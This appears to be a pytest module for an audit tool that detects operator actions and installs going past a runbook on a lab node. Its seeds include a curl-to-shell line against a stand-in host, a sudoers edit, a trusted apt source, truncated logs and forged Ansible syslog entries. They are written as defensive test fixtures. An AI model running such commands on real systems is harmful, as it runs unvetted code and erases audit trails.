"""Runbook 6.5 and 3 on a real node: what was done past the runbook, and what was installed past its rules."""

from __future__ import annotations

import typing as t

import pytest

from tests.nodes.audited_node import CHECKOUT, AuditedNode
from tests.nodes.conftest import LabNodes
from tests.nodes.harness import PLAYBOOKS

# Hands over what a package of Debian's own tools would hold, named and made by somebody.
_CONTROL = "Package: own\\nVersion: 1\\nArchitecture: all\\nMaintainer: x <x@x.invalid>\\nDescription: own\\n"
DEB = (
    f"mkdir -p /root/own/DEBIAN && printf '{_CONTROL}' > /root/own/DEBIAN/control &&"
    " dpkg-deb --build /root/own /root/own.deb >/dev/null"
)
# As a module, whose process lives on after its first word: journald looks at who said it, and takes its time. Here it
# lives until its last one is there.
FOREIGN = """\
import subprocess, syslog, time
for name, text in (("systemd", "Invoked with name=cron state=restarted"), ("command", "Invoked with _raw_params=ls")):
    syslog.openlog(f"ansible-ansible.legacy.{name}")
    syslog.syslog(text)
last = ["journalctl", "--quiet", "--output=cat", "--identifier=ansible-ansible.legacy.command"]
while not subprocess.run(last, stdout=subprocess.PIPE).stdout:
    time.sleep(0.2)
"""
# By the operator, through sudo: each is a finding of its own. Where a command is missing, sudo logs it even so.
BY_SUDO = {
    "systemctl restart cron": "systemctl restart cron.service",
    "systemctl daemon-reload": "systemctl daemon-reload",
    "systemctl mask --runtime e2scrub_reap.service": "systemctl mask e2scrub_reap.service",
    "service cron restart": "service cron restart",
    "dpkg --force-all -i /root/none.deb": "dpkg --install none.deb",
    "apt-get install --yes /root/none.deb": "apt install none.deb",
    "apt-mark hold less": "apt-mark hold less",
    "python3 -m pip install six": "pip install six",
    "journalctl --vacuum-time=100years": "journalctl --vacuum",
    "tee /etc/ssh/own.conf": "tee /etc/ssh/own.conf",
    "sed -i s/x/x/ /etc/sudoers": "sed /etc/sudoers",
    "sh -c 'curl -s http://x.invalid | sh'": "a script from the network, run as it comes",
    "env A=1 systemctl kill --signal=0 cron": "systemctl kill cron.service",
}
ALLOWED = (
    *("systemctl status cron", "systemctl stop cron", "systemctl start cron", "apt-get --version", "visudo -c"),
    *("dpkg -l less", "journalctl -n 1", "cat /etc/sudoers", "systemctl show cron", "python3 -m pip --version"),
)

SITE = "/usr/local/lib/python3.13/dist-packages"
GLOBAL = "/usr/local/lib/node_modules"


class Seed(t.NamedTuple):
    do: str
    found: dict[str, str]
    undo: str = ""


PACKAGES = (
    Seed("printf '#!/bin/sh\\n' > /usr/local/bin/tool && chmod 755 /usr/local/bin/tool",
         {"/usr/local/bin/tool": "3.1"}),
    Seed("mkdir -p /home/ops/.cargo/bin && cp /bin/true /home/ops/.cargo/bin/rg", {"/home/ops/.cargo": "3.1"}),
    Seed("echo 'deb [trusted=yes] file:/srv/none ./' > /etc/apt/sources.list.d/own.list",
         {"/etc/apt/sources.list.d/own.list: file:/srv/none ./": "3.1"}, undo="rm /etc/apt/sources.list.d/own.list"),
    Seed("echo 'Acquire::Check-Valid-Until \"false\";' > /etc/apt/apt.conf.d/own",
         {"Acquire::Check-Valid-Until": "3.1"}, undo="rm /etc/apt/apt.conf.d/own"),
    Seed("apt-get -qq install --yes '^patchutil.$' >/dev/null 2>&1", {"apt-get -qq install --yes ^patchutil.$": "3.2"}),
    Seed("echo 'APT::Install-Suggests \"1\";' > /etc/apt/apt.conf.d/suggests", {"APT::Install-Suggests": "3.2"},
         undo="rm /etc/apt/apt.conf.d/suggests"),
    # dpkg marks a package only that it knows.
    Seed(f"printf '{_CONTROL}' > /root/available && dpkg --merge-avail /root/available >/dev/null &&"
         " echo own install | dpkg --set-selections", {"dpkg's selections": "3.2"}),
    Seed(f"mkdir -p {SITE}/own-1.dist-info && printf 'Name: own\\nVersion: 1\\n' > {SITE}/own-1.dist-info/METADATA &&"
         f" echo > {SITE}/own.py && printf 'own.py,,\\n' > {SITE}/own-1.dist-info/RECORD", {f"{SITE} own": "3.4"},
         undo=f"rm -r {SITE}/own*"),
    Seed("su ops -c 'python3 -m venv --without-pip ~/myvenv'", {"/home/ops/myvenv": "3.4"}),
    Seed("printf '[global]\\nbreak-system-packages = true\\n' > /etc/pip.conf",
         {"/etc/pip.conf break-system-packages": "3.4"}, undo="rm /etc/pip.conf"),
    Seed(f"mkdir -p {GLOBAL}/own && echo '{{\"name\": \"own\", \"version\": \"1.0.0\"}}' > {GLOBAL}/own/package.json",
         {f"{GLOBAL} own": "3.5"}, undo=f"rm -r {GLOBAL}"),
    Seed("mkdir -p /home/ops/node_modules/own &&"
         " echo '{\"name\": \"own\", \"version\": \"1.0.0\"}' > /home/ops/node_modules/own/package.json",
         {"/home/ops/node_modules own": "3.5"}),
    Seed("mkdir -p /home/ops/.nvm/versions/node/v20.1.0/bin", {"/home/ops/.nvm": "3.5"}),
)  # fmt: skip


@pytest.fixture(scope="module")
def node(lab_node: LabNodes) -> AuditedNode:
    node = lab_node("t-audit-hands")
    node.play(PLAYBOOKS / "provision.yml").ok()
    return AuditedNode(node, "_audit_circumvention", "_audit_packages")


def by_sudo(node: AuditedNode, *commands: str) -> None:
    """Have the operator type commands over SSH; whether they succeed does not matter."""
    key = node.node.variables["operator_user_private_key_file"]
    for command in commands:
        node.node.ssh("ops", key, f"echo x | sudo -n {command}")
    node.node.root("journalctl --sync").ok()


def apt_is_long_over(node: AuditedNode) -> None:
    """Wait until apt ended long ago: what restarts within 30 s of that is taken for its doing, and tests are quick."""
    node.node.root(
        "end=$(sed -n 's/^End-Date: //p' /var/log/apt/history.log | tail -n 1);"
        ' until [ $(($(date +%s) - $(date -d "$end" +%s))) -gt 32 ]; do sleep 1; done'
    ).ok()


def test_a_provisioned_node_is_silent(node: AuditedNode) -> None:
    assert node.look("violation", "unknown", "info") == {}
    # A second run, which changes nothing, leaves nothing to be told either.
    node.node.play(PLAYBOOKS / "provision.yml").ok()
    assert node.look("violation", "unknown", "info") == {}


def test_what_the_runbook_permits_is_not_told(node: AuditedNode) -> None:
    by_sudo(node, *ALLOWED)
    assert node.look("violation", "unknown", "info") == {}


def test_a_log_that_was_cut(node: AuditedNode) -> None:
    node.node.root("cp -p /var/log/apt/history.log /root/history && : > /var/log/apt/history.log").ok()
    found = node.look()
    # What came before is not known any more to have come by apt.
    assert {"/var/log/apt/history.log (lost)", "git (dpkg)"} < set(found)
    assert {one["clause"] for one in found.values()} == {"6.5"}
    node.node.root("cp -p /root/history /var/log/apt/history.log && rm /root/history").ok()
    assert node.look() == {}


def test_a_journal_that_was_cut_is_unknown(node: AuditedNode) -> None:
    kept = "/etc/systemd/journald.conf.d/99-ai-systems-runbook.conf"
    record = "/var/lib/ai-systems-runbook/system-update.json"
    node.node.root(f"cp -p {record} /root/record && cp -p {kept} /root/kept").ok()
    past = (
        f"import json, os, time\npath = {record!r}\nrecord = json.load(open(path))\npast = time.time() - 90000\n"
        "record['completed'] = time.strftime('%Y-%m-%dT%H:%M:%SZ', time.gmtime(past))\n"
        f"json.dump(record, open(path, 'w'))\nos.utime({kept!r}, (past, past))\n"
    )
    node.node.root("python3 -", stdin=past).ok()
    found = node.look()
    assert {subject: one["verdict"] for subject, one in found.items()} == {"journal": "unknown"}
    node.mend(found)
    assert node.look() == {}
    node.node.root(f"mv /root/record {record} && mv /root/kept {kept}").ok()
    assert node.look() == {}


def test_commands_past_the_runbook(node: AuditedNode) -> None:
    by_sudo(node, *BY_SUDO)
    node.node.root("rm -f /etc/ssh/own.conf; apt-mark unhold less; systemctl unmask --runtime e2scrub_reap")
    found = node.look()
    # What its undoing did is told too, as root typed it beside sudo: a restart leaves its own trace.
    assert set(found) == set(BY_SUDO.values())
    assert {(one["clause"], one["verdict"]) for one in found.values()} == {("6.5", "violation")}
    assert "by ops" in found["systemctl daemon-reload"]["evidence"]
    node.mend({"any": next(iter(found.values()))})
    assert node.look() == {}
    assert "root says to have seen" in node.look("info")["matters that were seen"]["evidence"]


def test_what_leaves_its_trace_without_sudo(node: AuditedNode) -> None:
    apt_is_long_over(node)
    node.node.root("sleep 1; systemctl restart cron; systemctl reload ssh; systemctl daemon-reexec").ok()
    node.node.root("python3 -", stdin=FOREIGN).ok()
    node.node.root("journalctl --sync").ok()
    found = node.look()
    assert set(found) == {
        "systemctl restart cron.service",
        "systemctl reload ssh.service",
        "systemctl daemon-reexec",
        "Ansible's ansible.legacy.systemd state=restarted",
    }
    assert "Ansible's ansible.legacy.command" in node.look("info")
    node.mend({"any": next(iter(found.values()))})
    assert node.look() == {}


def test_nobody_but_root_says_that_it_was_seen(node: AuditedNode) -> None:
    apt_is_long_over(node)
    by_sudo(node, "systemctl try-restart cron")
    node.by_hand("logger --tag ai-systems-runbook seen", user="ops")
    found = node.look()
    assert set(found) == {"systemctl restart cron.service", "systemctl try-restart cron.service"}
    node.mend(found)
    assert node.look() == {}


def test_what_apt_does_for_its_packages_is_not_told(node: AuditedNode) -> None:
    node.by_hand("apt-get -qq install --reinstall --yes cron >/dev/null 2>&1")
    node.node.root("journalctl --sync").ok()
    assert node.look() == {}
    info = node.look("info")
    assert "by hand" in info["apt-get -qq install --reinstall --yes cron"]["evidence"]


def test_packages_past_apt(node: AuditedNode) -> None:
    # What dpkg does in the second in which apt ends is taken for apt's.
    node.by_hand(DEB, "sleep 2.5", "dpkg --install /root/own.deb >/dev/null")
    found = node.look()
    assert {subject: one["clause"] for subject, one in found.items()} == {"own (dpkg)": "6.5", "own 1": "3.1"}
    # Debian has none to put in its place, so it goes.
    node.mend({"own": found["own (dpkg)"]})
    node.by_hand("rm -r /root/own /root/own.deb")
    assert node.look() == {}


def test_a_second_clone(node: AuditedNode) -> None:
    node.by_hand(f"git clone -q {CHECKOUT} ~/elsewhere", f"cp -a {CHECKOUT} ~/copy", user="ops")
    node.by_hand("git init -q /srv/ai-systems")
    found = node.look()
    assert set(found) == {"/home/ops/elsewhere", "/home/ops/copy", "/srv/ai-systems"}
    node.mend(found)
    assert node.look() == {}


def test_updates_by_themselves(node: AuditedNode) -> None:
    node.node.root(
        "cp -p /var/log/apt/history.log /root/history && printf '\\nStart-Date: %s\\nCommandline: %s\\n"
        "Upgrade: less:amd64 (1, 2)\\nEnd-Date: %s\\n' \"$(date '+%F  %T')\" /usr/bin/unattended-upgrade"
        " \"$(date '+%F  %T')\" >> /var/log/apt/history.log"
    ).ok()
    found = node.look()
    assert {subject: one["clause"] for subject, one in found.items()} == {"/usr/bin/unattended-upgrade": "6.1"}
    node.node.root("cp -p /root/history /var/log/apt/history.log && rm /root/history").ok()
    assert node.look() == {}


@pytest.mark.parametrize("seeds", [PACKAGES], ids=["packages"])
def test_what_was_installed_past_section_3(node: AuditedNode, seeds: tuple[Seed, ...]) -> None:
    for seed in seeds:
        node.by_hand(seed.do)
    found = node.look()
    expected = {subject: clause for seed in seeds for subject, clause in seed.found.items()}
    assert {subject: one["clause"] for subject, one in found.items()} == expected
    undone = {subject for seed in seeds if seed.undo for subject in seed.found}
    node.mend({subject: one for subject, one in found.items() if subject not in undone})
    for seed in seeds:
        if seed.undo:
            node.by_hand(seed.undo)
    assert node.look() == {}
